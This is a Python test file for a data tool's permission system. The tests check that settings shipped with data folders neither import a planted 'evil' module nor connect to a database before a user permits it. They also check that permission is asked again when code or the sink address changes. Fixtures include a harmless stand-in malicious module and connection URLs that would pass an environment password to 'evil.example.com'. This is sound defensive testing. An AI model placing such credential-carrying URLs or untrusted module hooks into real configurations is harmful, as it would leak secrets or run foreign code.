"""Settings may have come with the data: they run no code and call no address before somebody permits it."""

import json
import os
import shlex
import socket
import subprocess
import sys

import pytest

from lealtad.base.errors import NotPermittedError, SettingsError
from lealtad.company.permission import grant
from lealtad.company.privileges import Privilege, list_privileges, list_source_privileges
from lealtad.company.settings import Settings
from lealtad.company.settings_in_force import (
    find_settings_in_force,
    read_source_settings,
    require_source_permission,
)
from lealtad.jobs.permit import permit
from lealtad.sources.configuration import read_data_settings

CODE = "open({path!r}, 'w').write('ran')\nfrom lealtad.examples.features import feature\n"
SINK = '[worklist.sink]\nurl = "postgresql://me:${CRM_PASSWORD}@crm.example.com/crm"\n'


@pytest.fixture
def company(tmp_path, monkeypatch):
    """Return a folder of exports whose settings name code that came with them."""
    folder = tmp_path / "my exports"
    folder.mkdir()
    (folder / "customers.csv").write_text("customer_id\nc1\n")
    (folder / "orders.csv").write_text("order_id,customer_id,ordered_at,amount\n1,c1,2026-01-05,9.5\n")
    (folder / "evil.py").write_text(CODE.format(path=str(tmp_path / "ran.txt")))
    (folder / "lealtad.toml").write_text('[features]\nmodules = ["evil"]\n')
    monkeypatch.syspath_prepend(str(folder))
    return folder


def run(*words, cwd):
    environment = {**os.environ, "PYTHONPATH": f"{os.environ.get('PYTHONPATH', '')}:{cwd / 'my exports'}"}
    program = "from lealtad.jobs.command_line import main; main()"
    return subprocess.run(  # noqa: S603 - the command as its user runs it
        [sys.executable, "-c", program, *words],
        cwd=cwd,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
        stdin=subprocess.DEVNULL,
    )


@pytest.mark.slow
def test_nothing_runs_until_the_command_of_the_refusal_was_run_and_again_after_a_change(company, tmp_path):
    ingest = ("ingest", "--data", "my exports", "--out", "out")
    refused = run(*ingest, cwd=tmp_path)
    assert refused.returncode == 2
    assert "run the Python code of evil" in refused.stderr
    assert not (tmp_path / "ran.txt").exists()
    assert not (tmp_path / "out" / "lake").exists()
    command = shlex.split(refused.stderr.strip().rpartition("run: ")[2])
    assert command == ["lealtad", "permit", "my exports", "--out", "out"]
    permitted = run(*command[1:], cwd=tmp_path)
    assert permitted.returncode == 0, permitted.stderr
    assert "run the Python code of evil" in permitted.stdout
    assert not (tmp_path / "ran.txt").exists(), "to permit is not to run"
    assert oct((tmp_path / "out" / "permission.json").stat().st_mode & 0o777) == "0o600"
    done = run(*ingest, cwd=tmp_path)
    assert "not permitted" not in done.stderr
    (company / "evil.py").write_text((company / "evil.py").read_text() + "import os\n")
    again = run(*ingest, cwd=tmp_path)
    assert again.returncode == 2
    assert "has changed since" in again.stderr


JOBS = [
    "ingest",
    "nightly",
    "features",
    "score",
    "worklist",
    "feeds",
    "kpis",
    "leakcheck",
    "train",
    "monitor",
    "demo",
]


@pytest.mark.parametrize("job", JOBS)
def test_no_job_imports_what_nobody_permitted(company, tmp_path, job):
    """Each job reads settings from somewhere: the source, --settings, or the record of the run."""
    from importlib import import_module

    out = tmp_path / "out"
    out.mkdir()
    (out / "lealtad.toml").write_text((company / "lealtad.toml").read_text())
    function = getattr(import_module(f"lealtad.jobs.{job}"), job)
    options = {"data": str(company)} if job in {"ingest", "nightly", "demo"} else {}
    with pytest.raises(SettingsError if job == "never" else Exception, match=r"lealtad permit|no lake|a lake"):
        function(out=out, **options)
    assert not (tmp_path / "ran.txt").exists()
    assert "evil" not in sys.modules


def test_permission_is_of_the_text_and_not_of_the_file(company, tmp_path):
    permit(str(company), tmp_path / "out")
    copy = tmp_path / "elsewhere"
    copy.mkdir()
    (copy / "lealtad.toml").write_text((company / "lealtad.toml").read_text())
    find_settings_in_force(tmp_path / "out", data=str(copy))
    with pytest.raises(NotPermittedError):
        find_settings_in_force(tmp_path / "another run", data=str(copy))


def test_the_sink_is_asked_for_and_asked_again_when_its_address_changes(tmp_path):
    path, out = tmp_path / "lealtad.toml", tmp_path / "out"
    path.write_text(SINK)
    with pytest.raises(
        NotPermittedError, match=r"send the list to postgresql://me:\$\{CRM_PASSWORD\}@crm.example.com"
    ):
        find_settings_in_force(out, path)
    permit(out=out, settings=path)
    find_settings_in_force(out, path)
    path.write_text(SINK.replace("crm.example.com", "evil.example.com"))
    with pytest.raises(NotPermittedError, match=r"evil\.example\.com") as refused:
        find_settings_in_force(out, path)
    assert refused.value.command == shlex.join(["lealtad", "permit", "--out", str(out), "--settings", str(path)])


@pytest.mark.slow
def test_a_database_elsewhere_is_not_called_before_it_is_permitted(company, tmp_path, monkeypatch):
    """The password of the environment would go to whatever machine the settings name."""
    monkeypatch.setenv("CRM_PASSWORD", "hush")
    called = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *host, **_: called.append(host) or [])
    (company / "lealtad.toml").write_text(
        '[sources.customers]\nfiles = "customers.csv"\n[sources.orders]\n'
        'database = "postgresql://me:${CRM_PASSWORD}@evil.example.com/x"\ntable = "orders"\n'
    )
    with pytest.raises(NotPermittedError, match="read from postgresql"):
        require_source_permission(tmp_path / "out", str(company))
    assert called == []
    permit(str(company), tmp_path / "out")
    require_source_permission(tmp_path / "out", str(company))
    checked = run("check", "my exports", "--out", "other", cwd=tmp_path)
    assert (checked.returncode, "lealtad permit 'my exports' --out other" in checked.stderr) == (2, True)


@pytest.mark.parametrize("name", ["simulated", "completejourney"])
def test_what_comes_with_lealtad_asks_for_nothing(name, tmp_path):
    found = read_source_settings(name)
    assert list_privileges(found.settings) == []
    assert list_source_privileges(read_data_settings(found.path).sources) == []


def test_no_address_or_code_in_the_settings_is_forgotten():
    """Whoever adds a key that calls or runs something adds it to the privileges too."""
    known = {"features.modules", "worklist.sink.url", *(f"sources.{name}.database" for name in _tables())}
    known |= {"alerts.mail_server", "alerts.webhook", "lake.address"}
    found = {place for place in _walk(Settings, "") if place.rpartition(".")[2] in _REACHING}
    assert found == known


_REACHING = {
    "url",
    "uri",
    "address",
    "database",
    "modules",
    "module",
    "webhook",
    "webhooks",
    "smtp",
    "server",
    "mail_server",
    "host",
    "mail",
    "store",
    "command",
    "program",
    "endpoint",
    "script",
}


def _tables():
    from lealtad.sources.configuration import Sources

    return [name for name in Sources.model_fields if name != "reject_limit"]


def _walk(section, place):
    from lealtad.base.toml_file import _find_tables

    for name, field in section.model_fields.items():
        yield f"{place}{name}"
        for inner in _find_tables(field.annotation):
            yield from _walk(inner, f"{place}{name}.")


def test_a_record_that_is_none_is_one_message(tmp_path):
    (tmp_path / "permission.json").write_text('{"permitted": [7]}')
    (tmp_path / "set.toml").write_text(SINK)
    with pytest.raises(SettingsError, match="what lealtad permit wrote"):
        find_settings_in_force(tmp_path, tmp_path / "set.toml")


def test_permissions_are_listed_without_being_given_and_withdrawn(company, tmp_path, capsys):
    out = tmp_path / "out"
    permit(str(company), out, show=True)
    assert "run the Python code of evil" in capsys.readouterr().out
    assert not out.exists()
    permit(str(company), out)
    permit(str(company), out)
    assert len(json.loads((out / "permission.json").read_text())["permitted"]) == 1
    permit(out=out, withdraw_all=True)
    with pytest.raises(NotPermittedError):
        find_settings_in_force(out, data=str(company))


def test_permission_of_one_does_not_permit_another(tmp_path):
    grant([Privilege("sink", "a")], tmp_path)
    (tmp_path / "set.toml").write_text('[features]\nmodules = ["json"]\n')
    with pytest.raises(NotPermittedError, match="json"):
        find_settings_in_force(tmp_path, tmp_path / "set.toml")
